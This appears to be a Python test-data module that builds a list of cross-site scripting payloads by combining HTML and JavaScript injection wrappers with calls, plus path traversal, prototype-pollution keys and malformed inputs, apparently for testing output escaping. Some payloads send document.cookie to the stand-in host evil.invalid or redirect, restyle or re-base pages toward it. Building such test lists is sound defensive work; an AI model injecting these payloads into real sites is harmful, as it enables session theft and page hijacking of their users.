"""Texts that become scripts, requests or broken pages wherever somebody forgets to treat them as text."""

from __future__ import annotations

from itertools import product

_CALLS = (
    "alert(1)",
    "confirm`1`",
    "prompt(document.domain)",
    "globalThis.pwned=1",
    "fetch('http://evil.invalid/'+document.cookie)",
    "location='http://evil.invalid/'",
)
_SHELLS = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<img src=x onerror={}>",
    '<img src=x onerror="{}">',
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<body onload={}>",
    '<iframe srcdoc="<script>{}</script>">',
    '<iframe src="javascript:{}">',
    '<a href="javascript:{}">click</a>',
    '"><script>{}</script>',
    "'><script>{}</script>",
    '" onfocus={} autofocus x="',
    "' onmouseover={} x='",
    "--><script>{}</script><!--",
    "]]><script>{}</script>",
    "<details open ontoggle={}>",
    "<video><source onerror={}>",
    "<math><mtext><img src=x onerror={}></mtext></math>",
    "<style>*{{background:url('http://evil.invalid/{}')}}</style>",
    "<template><script>{}</script></template>",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "${{{}}}",
    "{{{{constructor.constructor('{}')()}}}}",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{}\\x3c/script\\x3e",
    "%3Cscript%3E{}%3C/script%3E",
    "&lt;script&gt;{}&lt;/script&gt;",
    "';{};//",
    '";{};//',
    "`;{};//",
    "\u2028{}\u2029//",
)
_ODD = (
    "<meta http-equiv=refresh content=\"0;url=http://evil.invalid/\">",
    "<base href=\"http://evil.invalid/\">",
    "<link rel=stylesheet href=\"http://evil.invalid/a.css\">",
    "<link rel=preconnect href=\"http://evil.invalid/\">",
    "<form action=\"http://evil.invalid/\"><button>Continue</button></form>",
    "<img src=\"http://evil.invalid/a.png\">",
    "<embed src=\"http://evil.invalid/a.swf\">",
    "<object data=\"http://evil.invalid/a\"></object>",
    "<!--", "<![CDATA[", "<plaintext>", "<textarea>", "<title>", "</title>", "</textarea>", "<xmp>", "<noscript>",
    "__proto__", "constructor", "toString", "hasOwnProperty", "\u202etxt.exe", "\u0000", "\ufeff", "\U0001f600" * 40,
    "<" * 500, "&" * 200, "%s%n%d", "../../etc/passwd", "C:\\con\\con", "00:00:00.000 --> 00:00:09.000", "WEBVTT\n\nNOTE",
    "red;background:url(http://evil.invalid/)", "expression(alert(1))", "a" * 5000,
)  # fmt: skip

PAYLOADS = tuple(shell.format(call) for shell, call in product(_SHELLS, _CALLS)) + _ODD
